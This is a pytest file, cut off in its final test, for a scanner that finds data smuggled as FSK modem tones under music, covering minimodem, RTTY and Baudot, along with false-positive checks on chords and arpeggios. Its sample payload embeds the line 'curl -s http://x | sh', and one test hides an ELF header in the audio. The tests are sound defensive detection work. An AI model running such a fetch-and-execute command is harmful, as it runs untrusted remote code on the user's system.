"""Data sent as sound under music: a keyed carrier that does not dominate the audio is still
found (its tones take turns on a steady clock while the music's notes come and go), and music
alone, however tonal, is not a modem."""

from __future__ import annotations

import base64
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import numpy as np
import numpy.typing as npt
import pytest
import soundfile as sf

from audiomodel.keyed_bands import KEYED_PAIR_GATE, keyed_band_pairs
from audiomodel.modem import (
    BAUDOT_FIGURES,
    BAUDOT_LETTERS,
    CHUNK,
    COMMON_MODEMS,
    FIXED_PLAN_BAUDS,
    FIXED_PLANS,
    MIN_COHERENCE,
    NAMED_CLOCK_MIN_BAUD,
    TURN_TAKING_GATE,
    WHOLE_CLOCK_MIN_Z,
    Demodulated,
    Keying,
    Transmission,
    _baudot_framing,
    _best_keying,
    _candidate_pairs,
    _ChunkTransform,
    _clock_by_phase,
    _crossings,
    _keyed_span,
    _keying,
    _minimodem_rate,
    _minimodem_tones,
    _named_clock_over_transmission,
    _plan_clock,
    _plans_at_multiples,
    _polarity_rank,
    _sideband_clock,
    _standing_plans_clock,
    _turn_taking,
    _whole_chunk_clock,
    _whole_chunk_keying,
    _with_named_clock,
    baudot_text,
    demodulate_fsk,
    reduced_rate,
    scan_modem,
)

RATE = 48000
TEXT = b"The quick brown fox jumps over the lazy dog. curl -s http://x | sh\n" * 40

needs_minimodem = pytest.mark.skipif(
    shutil.which("minimodem") is None,
    reason="minimodem (apt package, installed by scripts/setup.sh) is not on PATH",
)


def fsk(data: bytes, baud: float, mark: float, space: float) -> npt.NDArray[np.float64]:
    """Continuous-phase FSK of ``data`` in 8-N-1 frames after a short mark lead-in."""
    bits = [1] * 20
    for byte in data:
        bits += [0, *((byte >> i) & 1 for i in range(8)), 1]
    edges = np.rint(np.arange(len(bits) + 1) * RATE / baud).astype(np.int64)
    freq = np.repeat(np.where(np.array(bits) == 1, mark, space), np.diff(edges))
    return np.sin(2 * np.pi * np.cumsum(freq) / RATE)


def chords(seconds: float, seed: int) -> npt.NDArray[np.float64]:
    """Held chords of harmonic notes (attack, decay, 5 Hz vibrato), a new chord every 1.3-2 s:
    narrowband energy that sits still for a while, as a modem's tones do, but keys nothing."""
    rng = np.random.default_rng(seed)
    n = int(seconds * RATE)
    t = np.arange(n) / RATE
    out = np.zeros(n)
    start = 0.0
    while start < seconds:
        length = float(rng.uniform(1.3, 2.0))
        i, j = int(start * RATE), min(n, int((start + length + 0.5) * RATE))
        tt = t[i:j] - start
        envelope = (1 - np.exp(-tt * 40.0)) * np.exp(-tt * 0.8)
        root = 110.0 * 2 ** (int(rng.integers(0, 24)) / 12)
        for step in (0, 4, 7, 12):
            f0 = root * 2 ** (step / 12)
            vibrato = 1 + 0.004 * np.sin(2 * np.pi * 5.0 * tt + rng.uniform(0, 6))
            phase = 2 * np.pi * np.cumsum(f0 * vibrato) / RATE
            for h in range(1, 9):
                out[i:j] += envelope * np.sin(h * phase + h) / h**1.3
        start += length
    return out / np.abs(out).max() + rng.normal(0, 1e-3, n)


def mix(modem: npt.NDArray[np.float64], level_db: float, at_s: float, seed: int) -> npt.NDArray:
    """``modem`` placed at ``at_s`` into chords, its RMS ``level_db`` against theirs."""
    bed = chords(at_s + modem.size / RATE + 3.0, seed)
    at = int(at_s * RATE)
    gain = np.sqrt(np.mean(bed**2) / np.mean(modem**2)) * 10 ** (level_db / 20)
    bed[at : at + modem.size] += modem * gain
    return np.rint(0.9 * bed / np.abs(bed).max() * 32767).astype(np.int16)


def modem_findings(y: npt.NDArray[np.int16]) -> list[dict[str, object]]:
    return [dict(f.evidence) for f in scan_modem(y, RATE).findings if f.code == "signal.modem"]


# A 4 s burst from 2.9 s: at 48 kHz the scanner's chunks are 2.73 s, so it fills the second
# chunk (the one the idle stride would skip) and half of the third.
BURST_AT_S = 2.9


def test_a_short_fsk_burst_in_a_chunk_the_idle_stride_skips_is_found() -> None:
    # minimodem's plan for 600 Bd, 4 s, as loud as the chords: the chunk it fills is one the
    # idle stride skips, the next holds half of it
    modem = fsk(TEXT[:240], 600.0, 900.0, 1400.0)
    found = modem_findings(mix(modem, 0.0, BURST_AT_S, seed=1))
    assert found, "a 600 Bd FSK burst under chords was missed"
    assert any(abs(float(str(e["baud"])) - 600.0) < 30.0 for e in found)


@pytest.mark.parametrize(("level_db", "seed"), [(-1.5, 3), (0.0, 0), (3.0, 2)])
def test_a_600_baud_modem_whose_tones_a_chord_outshines_is_found(
    level_db: float, seed: int
) -> None:
    # minimodem's 600 Bd plan as loud as held chords: the chords' partials stand higher as
    # spectral peaks than the keyed tones, whose bands still take turns
    modem = fsk(TEXT[:240], 600.0, 900.0, 1400.0)
    found = modem_findings(mix(modem, level_db, BURST_AT_S, seed))
    assert found, f"600 Bd FSK {level_db:+} dB against chords (seed {seed}) was missed"
    assert any(abs(float(str(e["baud"])) - 600.0) < 30.0 for e in found)


@needs_minimodem
@pytest.mark.parametrize(("baud", "seed"), [(600, 3), (2400, 2)])
def test_minimodem_under_chords_is_found_at_its_own_rate(
    baud: int, seed: int, tmp_path: Path
) -> None:
    out = tmp_path / "tx.wav"
    sent = TEXT[: baud // 10 * 4]
    subprocess.run(
        ["minimodem", "--tx", "-f", str(out), str(baud)], input=sent, check=True, timeout=120
    )
    modem, rate = sf.read(out, dtype="float64")
    assert rate == RATE
    found = modem_findings(mix(modem, 6.0, BURST_AT_S, seed))
    assert found, f"minimodem {baud} Bd under chords was missed"
    # the clock under music may time every second symbol; the tones name the rate
    assert any(abs(float(str(e["baud"])) - baud) < 0.05 * baud for e in found)


def _chunk(y: npt.NDArray[np.float64]) -> tuple[_ChunkTransform, float]:
    factor, rate = reduced_rate(RATE)
    x = y[: CHUNK * factor].reshape(-1, factor).mean(axis=1)
    chunk = _ChunkTransform.of(x, rate)
    assert chunk is not None
    return chunk, rate


def test_keyed_tones_take_turns_and_a_chords_partials_do_not() -> None:
    modem = fsk(TEXT[:300], 600.0, 900.0, 1400.0)
    keyed, rate = _chunk(modem[: CHUNK * 2] + 0.5 * chords(3.0, seed=4)[: CHUNK * 2])
    spectra = {keyed.x.size: keyed.spectrum}
    assert _turn_taking(keyed.x, spectra, rate, 900.0, 1400.0) <= TURN_TAKING_GATE
    bed = chords(3.0, seed=5)[: CHUNK * 2]
    tonal, rate = _chunk(bed)
    spectra = {tonal.x.size: tonal.spectrum}
    # the strongest partials of the chords, taken two at a time
    power = np.abs(tonal.spectrum) ** 2
    freqs = np.fft.rfftfreq(tonal.x.size, 1 / rate)
    band = (freqs > 300) & (freqs < 4000)
    top = np.sort(freqs[band][np.argsort(power[band])[-400:]])
    peaks = [float(f) for f in top[np.concatenate(([True], np.diff(top) > 80.0))]][:6]
    assert len(peaks) >= 3
    for i, f_a in enumerate(peaks):
        for f_b in peaks[i + 1 :]:
            assert _turn_taking(tonal.x, spectra, rate, f_a, f_b) > TURN_TAKING_GATE


def test_a_plan_that_keys_where_no_peak_pair_does_carries_its_named_clock() -> None:
    # minimodem's 600 Bd plan as loud as chords whose partials outshine its tones: no pair of
    # peaks keys, the plan's own pair does, and the whole chunk keeps the plan's named clock;
    # the keying carries that clock's Z (it was dropped when the plan, not a peak pair, keyed)
    modem = fsk(TEXT[:400], 600.0, 900.0, 1400.0)
    chunk, rate = _chunk(mix(modem, 0.0, 0.3, seed=0).astype(np.float64))
    candidates = _candidate_pairs(chunk.coarse, rate / 2)
    assert _best_keying(chunk.x, chunk.spectra, rate, candidates, 0.0, 1.0) is None
    whole = _whole_chunk_keying(chunk, rate, chunk.spectra, candidates, 0.0, 1.0)
    assert whole is not None and whole.clock_z >= WHOLE_CLOCK_MIN_Z
    keying = _keying(chunk, rate, 0.0, 1.0)
    assert keying is not None and keying.baud == pytest.approx(600.0, rel=0.01)
    assert keying.clock_z == pytest.approx(whole.clock_z)


@pytest.mark.parametrize("seed", [6, 7, 8])
def test_held_chords_with_vibrato_are_not_a_modem(seed: int) -> None:
    bed = chords(14.0, seed)
    assert not scan_modem(np.rint(0.9 * bed * 32767).astype(np.int16), RATE).findings


def test_tones_naming_a_minimodem_rate_give_that_rate_to_a_half_rate_clock() -> None:
    assert _minimodem_rate(907.0, 1419.0, 310.0) == pytest.approx(614.0)
    assert _minimodem_rate(1800.0, 3800.0, 800.0) == pytest.approx(2400.0)  # a third
    assert _minimodem_rate(907.0, 1419.0, 450.0) == 450.0  # no whole fraction
    assert _minimodem_rate(1070.0, 1270.0, 150.0) == 150.0  # not minimodem's tones for a rate


# -- a modem no tone plan knows: its two tone bands take turns (their keyed parts
# anti-correlate) whatever the tones, and its changes keep the phase of one clock

# 350 Bd between 2000 and 2300 Hz: no common modem's rate or tones, and not minimodem's plan
# for 350 Bd (1070/1270 Hz)
UNPLANNED_BAUD, UNPLANNED_LOW, UNPLANNED_HIGH = 350.0, 2000.0, 2300.0


def test_the_pair_is_in_no_tone_plan() -> None:
    assert all(abs(UNPLANNED_BAUD - rate) > 0.03 * rate for _, rate, _, _ in COMMON_MODEMS)
    assert sorted(_minimodem_tones(UNPLANNED_BAUD)) != [UNPLANNED_LOW, UNPLANNED_HIGH]


@pytest.mark.parametrize(("level_db", "seed"), [(0.0, 0), (0.0, 1), (-2.0, 1)])
def test_fsk_at_a_rate_and_tones_no_plan_knows_under_chords_is_found(
    level_db: float, seed: int
) -> None:
    # neither the chunk's peaks (the chords' partials stand higher) nor a plan name the pair
    modem = fsk(TEXT[:140], UNPLANNED_BAUD, UNPLANNED_LOW, UNPLANNED_HIGH)
    y = mix(modem, level_db, BURST_AT_S, seed)
    found = [dict(f.evidence) for f in scan_modem(y, RATE).findings if f.code == "signal.modem"]
    assert found, f"{UNPLANNED_BAUD:g} Bd FSK {level_db:+} dB under chords (seed {seed}) was missed"
    assert any(abs(float(str(e["baud"])) - UNPLANNED_BAUD) < 0.02 * UNPLANNED_BAUD for e in found)


def test_keyed_tone_bands_are_found_within_a_bin_of_the_tones() -> None:
    modem = fsk(TEXT[:300], UNPLANNED_BAUD, UNPLANNED_LOW, UNPLANNED_HIGH)
    y = mix(modem, 0.0, 0.1, seed=1).astype(np.float64)
    chunk, rate = _chunk(y)
    pairs = keyed_band_pairs(chunk.x, rate, min_hz=300.0, max_hz=7800.0, min_shift_hz=80.0)
    assert pairs, "no pair of bands took turns"
    lo, hi, corr = pairs[0]
    assert corr <= KEYED_PAIR_GATE
    assert abs(lo - UNPLANNED_LOW) < 100.0 and abs(hi - UNPLANNED_HIGH) < 100.0, (lo, hi)


def test_changes_jittered_off_their_clock_keep_its_phase() -> None:
    # a +-1 keyed difference at 600 Bd whose changes are each moved by up to 0.3 symbol: the
    # intervals between changes add two jitters, the phase of each change against the clock
    # only one
    rng = np.random.default_rng(5)
    rate, baud = 6000.0, 600.0
    symbols = rng.integers(0, 2, 1500) * 2 - 1
    edges = (np.arange(symbols.size + 1) + rng.uniform(-0.3, 0.3, symbols.size + 1)) / baud
    t = np.arange(int(edges[-1] * rate)) / rate
    diff = symbols[np.clip(np.searchsorted(edges, t, side="right") - 1, 0, symbols.size - 1)]
    diff = diff.astype(np.float64) + rng.normal(0, 0.2, t.size)
    found, coherence, times = _clock_by_phase(diff, _crossings(diff, rate), rate, 2000.0)
    assert abs(found - baud) < 0.01 * baud
    assert coherence >= MIN_COHERENCE
    assert times.size > 500


# -- a modem as loud as the music: read in the polarity that carries data, clocked at the rate its tones name (over the whole chunk where a fast
# modem's single changes time no clock); music alone keys none of it

RANDOM = bytes(np.random.default_rng(11).integers(0, 256, 2000, dtype=np.uint8))


def _reduced(y: npt.NDArray[np.number]) -> tuple[npt.NDArray[np.float64], float]:
    factor, rate = reduced_rate(RATE)
    x = np.asarray(y, dtype=np.float64)
    return x[: x.size // factor * factor].reshape(-1, factor).mean(axis=1), rate


# -- the polarity that carries data ---------------------------------------------------------------


@pytest.mark.parametrize(("level_db", "edge_s", "seed"), [(3.0, 0.5, 0), (0.0, 0.3, 3)])
def test_an_executable_is_read_in_the_polarity_that_carries_data(
    level_db: float, edge_s: float, seed: int
) -> None:
    # zero-rich bytes read with mark and space swapped frame as 0xFF nearly as validly; with
    # chords at the edges of the stretch the swapped reading frames better (0.87 against 0.82)
    elf = b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x03\x00>\x00\x01" + bytes(40)
    modem = fsk(elf, 300.0, 1270.0, 1070.0)
    y = mix(modem, level_db, edge_s, seed)
    x, rate = _reduced(y[: int((2 * edge_s + modem.size / RATE) * RATE)])
    demodulated = demodulate_fsk(x, rate, 1070.0, 1270.0, 300.0)
    assert demodulated.mark_hz == 1270.0
    assert b"ELF" in demodulated.data
    assert _polarity_rank(demodulated)[0]  # zero-rich, not an idle mark's 0xFF


# -- the rate the tones name -----------------------------------------------------------------


def test_bell_103_tones_give_a_clock_that_also_fits_a_slower_one_its_own_rate() -> None:
    # a zero-rich stream at 300 Bd changes at each frame's start and stop bits only: every
    # interval between changes of one direction is 10 symbols, which a clock 2.5x slower fits
    frames = np.arange(120) * 10.0
    times = np.sort(np.concatenate((frames, frames + 9.0))) / 300.0
    baud, coherence = _plan_clock(times, 1070.0, 1270.0, 120.0, 0.95)
    assert abs(baud - 300.0) < 3.0
    assert coherence > 0.9
    # tones no standard plan has keep the clock found
    assert _plan_clock(times, 2000.0, 2300.0, 120.0, 0.95) == (120.0, 0.95)


def test_a_clock_near_a_plans_rate_is_kept() -> None:
    # a sound periodic at 109 Hz fits 874 Bd and Bell 202's 1200 Bd alike: a clock under twice
    # slower than the plan's is no run of equal bits, and keeps its own rate
    times = np.arange(300) * 8.0 / 874.0
    assert _plan_clock(times, 1200.0, 2200.0, 874.0, 0.9) == (874.0, 0.9)


def _chunk_at(y: npt.NDArray[np.number], start_s: float) -> tuple[_ChunkTransform, float]:
    x, rate = _reduced(y)
    at = int(start_s * rate)
    chunk = _ChunkTransform.of(x[at : at + CHUNK], rate)
    assert chunk is not None
    return chunk, rate


@pytest.mark.parametrize(("level_db", "seed"), [(3.0, 0), (3.0, 1), (0.0, 0)])
def test_a_4800_baud_minimodem_plan_under_chords_is_found_by_its_whole_chunk_clock(
    level_db: float, seed: int
) -> None:
    # minimodem's 4800 Bd plan (3000/7000 Hz) as loud as held chords: the ~0.2 s the pair
    # test times holds too few clean changes for a clock, the whole chunk keeps the named one
    modem = fsk(RANDOM[:1920], 4800.0, 3000.0, 7000.0)
    y = mix(modem, level_db, BURST_AT_S, seed)
    bauds = [float(str(e["baud"])) for e in modem_findings(y)]
    assert bauds, f"4800 Bd FSK {level_db:+} dB under chords (seed {seed}) was missed"
    assert any(abs(b - 4800.0) < 0.01 * 4800.0 for b in bauds)
    chunk, rate = _chunk_at(y, BURST_AT_S)
    found = _whole_chunk_clock(chunk, rate, 3000.0, 7000.0, 4800.0)
    assert found is not None
    assert abs(found[0] - 4800.0) < 0.005 * 4800.0
    assert found[3] >= WHOLE_CLOCK_MIN_Z


@pytest.mark.parametrize("seed", [4, 5, 6])
def test_held_chords_keep_no_clock_a_plan_names(seed: int) -> None:
    chunk, rate = _chunk_at(chords(4.0, seed), 0.5)
    spectra = {chunk.x.size: chunk.spectrum}
    assert _whole_chunk_keying(chunk, rate, spectra, [], 0.0, 2.7) is None


def test_a_steady_beat_at_a_named_rate_is_no_modem() -> None:
    # two partials 2400 Hz apart beat at exactly minimodem's 2400 Bd inside its tone bands:
    # a perfect clock, but the "symbols" repeat a cycle of one or two
    n = 4 * RATE
    t = np.arange(n) / RATE
    y = sum(np.sin(2 * np.pi * f * t) for f in (1500.0, 3900.0, 4100.0, 6300.0))
    y = y + np.random.default_rng(3).normal(0, 0.01, n)
    chunk, rate = _chunk_at(y, 0.5)
    assert _whole_chunk_clock(chunk, rate, 1800.0, 3800.0, 2400.0) is None
    assert not modem_findings(np.rint(0.2 * y / np.abs(y).max() * 32767).astype(np.int16))


def test_a_named_clock_kept_over_whole_chunks_is_reported_though_frames_are_garbled() -> None:
    # under music a 4800 Bd minimodem frames at chance (0.55) while its changes keep the clock
    # its tones name over the whole chunk
    garbled = Demodulated(bytes(range(200)), 3000.0, 7000.0, frames=400, valid_ratio=0.55)
    keying = Keying(2.7, 5.5, 3000.0, 7000.0, 4800.0, 0.6, 1500, clock_z=540.0)
    plan = "minimodem default for 4800 Bd"
    assert Transmission(keying, plan, garbled).flagged
    # the clock as loosely kept as music keeps one at these tones is not enough
    assert not Transmission(replace(keying, clock_z=29.0), plan, garbled).flagged
    # nor is a clock at tones no plan names
    assert not Transmission(keying, "FSK", garbled).flagged
    # nor one whose frames sit far below chance (a steady sound read by a receiver)
    below = replace(garbled, valid_ratio=0.24)
    assert not Transmission(keying, plan, below).flagged


# -- RTTY's rates: a tracker's arpeggio switches notes at its 50 Hz frame tick --------------


def arpeggio(notes: tuple[float, ...], seconds: float, tick: float = 50.0) -> npt.NDArray:
    """A tracker arpeggio: the notes in turn, one per frame tick, as 16-bit samples."""
    per_tick = round(RATE / tick)
    count = int(seconds * tick)
    freq = np.repeat(np.resize(np.asarray(notes, dtype=np.float64), count), per_tick)
    y = np.sin(2 * np.pi * np.cumsum(freq) / RATE)
    return np.rint(0.8 * y * 32767).astype(np.int16)


@pytest.mark.parametrize(
    "notes",
    [
        (2125.0, 2550.0),
        (2125.0, 2550.0, 1800.0),
        (2125.0, 2295.0),
        (1000.0, 1500.0),
        (700.0, 1100.0, 1400.0),
    ],
)
def test_an_arpeggio_on_a_50_hz_tick_is_not_a_modem(notes: tuple[float, ...]) -> None:
    assert not modem_findings(arpeggio(notes, 8.0))


def baudot_fsk(codes: list[int], baud: float, mark: float, space: float) -> npt.NDArray:
    """Continuous-phase FSK of 5-bit codes in 5-N-1.5 frames (RTTY), after a mark lead-in."""
    halves = [1] * 20  # half-symbols
    for code in codes:
        halves += [0, 0, *(b for i in range(5) for b in [(code >> i) & 1] * 2), 1, 1, 1]
    edges = np.rint(np.arange(len(halves) + 1) * RATE / (2 * baud)).astype(np.int64)
    freq = np.repeat(np.where(np.array(halves) == 1, mark, space), np.diff(edges))
    return np.sin(2 * np.pi * np.cumsum(freq) / RATE)


def test_baudot_frames_of_rtty_end_in_a_stop_bit_and_a_cycles_do_not() -> None:
    rng = np.random.default_rng(11)
    rtty = baudot_fsk(rng.integers(0, 32, 120).tolist(), 45.45, 2125.0, 2295.0)
    frames, valid = _baudot_framing(rtty, RATE, 2125.0, 2295.0, 45.45)
    assert frames >= 100 and valid >= 0.95
    # symbols keyed at random (no framing) end at chance
    bits = rng.integers(0, 2, 600)
    edges = np.rint(np.arange(bits.size + 1) * RATE / 50.0).astype(np.int64)
    freq = np.repeat(np.where(bits == 1, 2125.0, 2550.0), np.diff(edges))
    random_keying = np.sin(2 * np.pi * np.cumsum(freq) / RATE)
    frames, valid = _baudot_framing(random_keying, RATE, 2125.0, 2550.0, 50.0)
    assert frames >= 50 and 0.3 <= valid <= 0.65


def test_an_rtty_plan_is_reported_only_with_frames_above_chance() -> None:
    # the chiptune of the dev good set read as RTTY 425 Hz shift (its figures)
    keying = Keying(0.0, 3.0, 2125.0, 2550.0, 49.97, 0.77, 75)
    rng = np.random.default_rng(12)
    data = rng.integers(0, 256, 29, dtype=np.uint8).tobytes()
    chance = Demodulated(data, 2125.0, 2550.0, frames=44, valid_ratio=0.66)
    arpeggio_read = Transmission(keying, "RTTY 425 Hz shift", chance, baudot=(49, 0.45))
    assert not arpeggio_read.flagged
    # Baudot frames of RTTY, or minimodem's 8-N-1 under music, are data
    assert replace(arpeggio_read, baudot=(80, 0.97)).flagged
    framed_8n1 = Demodulated(data * 4, 2125.0, 2550.0, frames=140, valid_ratio=0.8)
    assert replace(arpeggio_read, demodulated=framed_8n1).flagged
    # without a demodulation (audio not kept) the plan stands alone, as before
    assert replace(arpeggio_read, demodulated=None, baudot=None).flagged


def minimodem_track(
    args: list[str], data: bytes, level_db: float | None, tmp_path: Path
) -> npt.NDArray[np.int16]:
    """``data`` sent by ``minimodem --tx ARGS``: alone at -1 dBFS peak (``level_db`` None), or
    mixed ``level_db`` over chords from 2 s on."""
    out = tmp_path / "tx.wav"
    subprocess.run(
        ["minimodem", "--tx", "-f", str(out), *args], input=data, check=True, timeout=120
    )
    y, rate = sf.read(out, dtype="float64")
    assert rate == RATE
    if level_db is None:
        return np.rint(0.9 * y / np.abs(y).max() * 32767).astype(np.int16)
    return mix(y, level_db, 2.0, 3)


@needs_minimodem
@pytest.mark.parametrize(
    ("baud", "tones"), [(45.45, ()), (50.0, ()), (45.45, ("-M", "2125", "-S", "2295"))]
)
@pytest.mark.parametrize("level_db", [None, 0.0])
def test_minimodem_random_bytes_at_rttys_rates_are_reported(
    baud: float, tones: tuple[str, ...], level_db: float | None, tmp_path: Path
) -> None:
    rng = np.random.default_rng(13)
    data = rng.integers(0, 256, 150, dtype=np.uint8).tobytes()
    z = minimodem_track([*tones, f"{baud:g}"], data, level_db, tmp_path)
    found = modem_findings(z)
    assert any(abs(float(f["baud"]) - baud) < 0.02 * baud for f in found)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("baud", "mark", "space"), [(45.45, 2125.0, 2295.0), (50.0, 2125.0, 2550.0)]
)
@pytest.mark.parametrize("level_db", [None, 0.0])
def test_baudot_with_half_symbol_stop_bits_is_reported_at_rttys_rate(
    baud: float, mark: float, space: float, level_db: float | None
) -> None:
    # the changes after 1.5 stop bits fall on half symbols: the pair test times twice the rate
    rng = np.random.default_rng(14)
    rtty = baudot_fsk(rng.integers(0, 32, 200).tolist(), baud, mark, space)
    z = np.rint(0.9 * rtty * 32767).astype(np.int16) if level_db is None else mix(rtty, 0.0, 2.0, 3)
    found = modem_findings(z)
    assert found and all(abs(float(f["baud"]) - baud) < 0.02 * baud for f in found)  # type: ignore[arg-type]
    assert all(str(f["modem"]).startswith("RTTY") for f in found)


@needs_minimodem
@pytest.mark.parametrize("mode", [("rtty",), ("--baudot", "50")])
@pytest.mark.parametrize("level_db", [None, 0.0])
def test_minimodem_rtty_baudot_of_base32_text_is_reported(
    mode: tuple[str, ...], level_db: float | None, tmp_path: Path
) -> None:
    rng = np.random.default_rng(15)
    text = base64.b32encode(rng.integers(0, 256, 200, dtype=np.uint8).tobytes())
    z = minimodem_track(list(mode), text, level_db, tmp_path)
    baud = 45.45 if mode == ("rtty",) else 50.0
    rtty = [f for f in modem_findings(z) if str(f["modem"]).startswith("RTTY")]
    assert rtty and all(abs(float(f["baud"]) - baud) < 0.02 * baud for f in rtty)  # type: ignore[arg-type]


# -- the named clock: kept by a plan's keying, over a transmission, where tones stand ----------


def test_a_plans_keying_keeps_the_named_clock_the_whole_chunk_finds() -> None:
    best = Keying(0.0, 2.7, 1200.0, 2200.0, 1200.0, 0.99, 300)
    whole = replace(best, coherence=0.4, transitions=2000, clock_z=540.0)
    assert _with_named_clock(best, whole) == replace(best, clock_z=540.0)
    assert _with_named_clock(best, None) is best
    assert _with_named_clock(None, whole) is None


def test_the_keyed_span_is_where_the_changes_keep_the_clock() -> None:
    # random change times for 1 s, then 2 s of changes on a 600 Bd clock, then random again
    rng = np.random.default_rng(5)
    clocked = 1.0 + np.sort(rng.choice(1200, 700, replace=False)) / 600.0
    times = np.sort(np.concatenate((rng.uniform(0, 1, 300), clocked, rng.uniform(3, 4, 300))))
    first, last = _keyed_span(times, 600.0, 1000.0, 0, (0, 4000))
    # within half a window of changes (32 random ones: ~0.1 s) of the clocked stretch's ends
    assert 850 <= first <= 1150 and 2850 <= last <= 3150
    # no clock anywhere: the whole stretch
    assert _keyed_span(np.sort(rng.uniform(0, 4, 1000)), 600.0, 1000.0, 0, (0, 4000)) == (0, 4000)


def test_a_plan_whose_tones_stand_but_barely_take_turns_is_found_by_its_named_clock() -> None:
    # minimodem's 600 Bd plan 3 dB under chords, the chunk it half fills: its bands anti-
    # correlate too weakly for the turn-taking gate, its tones stand over the floor, its
    # changes keep the named clock
    lo, hi = sorted(_minimodem_tones(600.0))
    y = mix(fsk(RANDOM[:240], 600.0, lo, hi), -3.0, BURST_AT_S, seed=1)
    chunk, rate = _chunk_at(y, BURST_AT_S + 2.53)
    spectra = {chunk.x.size: chunk.spectrum}
    assert _turn_taking(chunk.x, spectra, rate, lo, hi) > TURN_TAKING_GATE
    found = _standing_plans_clock(chunk, rate, spectra, 0.0, 2.7)
    assert found is not None
    assert abs(found.baud - 600.0) < 0.005 * 600.0 and found.clock_z >= WHOLE_CLOCK_MIN_Z


@pytest.mark.parametrize("seed", [4, 5, 6])
def test_held_chords_give_no_standing_plan_a_clock(seed: int) -> None:
    chunk, rate = _chunk_at(chords(4.0, seed), 0.5)
    assert _standing_plans_clock(chunk, rate, {chunk.x.size: chunk.spectrum}, 0.0, 2.7) is None


def test_a_transmission_keyed_on_stray_tones_is_timed_on_a_plans_clock_over_its_audio() -> None:
    # a 4800 Bd minimodem 4 s burst under chords, its chunks keyed on a pair of stray peaks:
    # over the transmission's audio at once, the plan's named clock is kept
    y = mix(fsk(RANDOM[:1920], 4800.0, 3000.0, 7000.0), 0.0, 1.0, seed=2)
    x, rate = _reduced(y)
    stray = Keying(0.0, 7.0, 1150.0, 1730.0, 880.0, 0.6, 300)
    found = Transmission(stray, "FSK", demodulate_fsk(x, rate, 1150.0, 1730.0, 880.0))
    _named_clock_over_transmission(found, x, rate)
    assert found.name == "minimodem default for 4800 Bd" and found.flagged
    assert found.keying.clock_z >= WHOLE_CLOCK_MIN_Z
    # chords alone keep no plan's clock: the transmission stays as it was
    x, rate = _reduced(chords(7.0, 4))
    alone = Transmission(stray, "FSK", demodulate_fsk(x, rate, 1150.0, 1730.0, 880.0))
    _named_clock_over_transmission(alone, x, rate)
    assert alone.name == "FSK" and not alone.flagged and alone.keying.clock_z == 0.0


# -- Baudot read into text ---------------------------------------------------------------------


def _baudot_codes(text: str) -> list[int]:
    """``text`` as a teleprinter sends it: a shift before each run of figures or letters."""
    codes, table = [BAUDOT_LETTERS.index("\x0f")], BAUDOT_LETTERS
    for char in text:
        if char not in table:
            table = BAUDOT_FIGURES if table is BAUDOT_LETTERS else BAUDOT_LETTERS
            codes.append(table.index("\x0e" if table is BAUDOT_FIGURES else "\x0f"))
        codes.append(table.index(char))
    return codes


@pytest.mark.parametrize("level_db", [None, 0.0])
def test_rtty_is_read_into_the_text_it_carries(level_db: float | None) -> None:
    text = "CQ CQ DE TEST 73 QTH 52.1N/4.3E?"
    rtty = baudot_fsk(_baudot_codes(text) * 3, 45.45, 2125.0, 2295.0)
    y = np.rint(0.9 * rtty * 32767).astype(np.int16) if level_db is None else mix(rtty, 0.0, 2.0, 3)
    x, rate = _reduced(y)
    assert text in baudot_text(x, rate, 2125.0, 2295.0, 45.45)
    found = [f for f in modem_findings(y) if str(f["modem"]).startswith("RTTY")]
    assert found and text in str(found[0]["text"])


def test_a_space_shifts_baudot_back_to_letters() -> None:
    # minimodem sends no letters shift after a space (unshift on space, as teleprinters print)
    figures, letters = BAUDOT_FIGURES.index, BAUDOT_LETTERS.index
    codes = [letters("\x0f"), figures("\x0e"), figures("7"), figures("3"), letters(" ")]
    codes += [letters("D"), letters("E")]
    x, rate = _reduced(np.rint(0.9 * baudot_fsk(codes * 4, 50.0, 1585.0, 1415.0) * 32767))
    assert "73 DE" in baudot_text(x, rate, 1415.0, 1585.0, 50.0)


# -- the band above a fast modem's tones; plans at a multiple of the clock; a tracker's tick --


def test_the_band_above_a_fast_modems_higher_tone_keeps_its_clock_where_music_drowns_the_pair() -> (
    None
):
    # 4800 Bd on minimodem's tones under noise shaped as music's (below 6 kHz, falling with
    # frequency) 6 dB over the modem: the pair's bands no longer time the named clock, the band
    # from 7 kHz up still does
    rng = np.random.default_rng(21)
    sr, n = RATE // 2, CHUNK
    modem = fsk(rng.integers(0, 256, 3000, dtype=np.uint8).tobytes(), 4800.0, 3000.0, 7000.0)
    modem = modem[::2][:n] / np.sqrt(np.mean(modem**2))
    freqs = np.fft.rfftfreq(n, 1 / sr)
    shaped = np.fft.rfft(rng.normal(size=n)) * (freqs < 6000) / np.maximum(freqs, 100) ** 0.5
    music = np.fft.irfft(shaped, n)
    x = modem + music / np.sqrt(np.mean(music**2)) * 10 ** (6 / 20)
    chunk = _ChunkTransform.of(x, sr)
    assert chunk is not None
    assert _whole_chunk_clock(chunk, sr, 3000.0, 7000.0, 4800.0) is None
    found = _sideband_clock(chunk, sr, 3000.0, 7000.0, 4800.0)
    assert found is not None
    baud, _, _, z = found
    assert abs(baud - 4800.0) < 0.01 * 4800.0 and z >= WHOLE_CLOCK_MIN_Z


def test_held_chords_keep_no_clock_in_the_band_above_any_plans_tones() -> None:
    sr = RATE // 2
    bed = chords(2 * CHUNK / RATE + 1, seed=4)[::2][:CHUNK]
    chunk = _ChunkTransform.of(bed, sr)
    assert chunk is not None
    for (lo, hi), baud in zip(FIXED_PLANS, FIXED_PLAN_BAUDS, strict=True):
        assert _sideband_clock(chunk, sr, lo, hi, baud) is None


def test_a_keying_at_half_a_plans_rate_beside_its_tones_is_read_with_that_plans_receiver() -> None:
    # a 600 Bd minimodem under music: its changes kept a 300 Bd clock, peaks beside its tones
    halved = Keying(0.0, 2.7, 984.0, 1359.0, 300.0, 0.55, 251)
    plans = _plans_at_multiples(halved)
    assert [(lo, hi, rate) for _, lo, hi, rate, _ in plans] == [(900.0, 1400.0, 600.0)]
    # tones no such plan holds, or a clock no whole fraction of one: no plan
    assert _plans_at_multiples(replace(halved, f_low=2000.0, f_high=3000.0)) == []
    assert _plans_at_multiples(replace(halved, baud=250.0)) == []


def test_a_named_clock_at_a_trackers_tick_is_no_evidence_alone() -> None:
    # a chiptune's arpeggio on RTTY 425 Hz shift's tones keeps RTTY's 50 Bd clock over whole
    # chunks; its frames end at chance both ways
    rng = np.random.default_rng(16)
    data = rng.integers(0, 256, 96, dtype=np.uint8).tobytes()
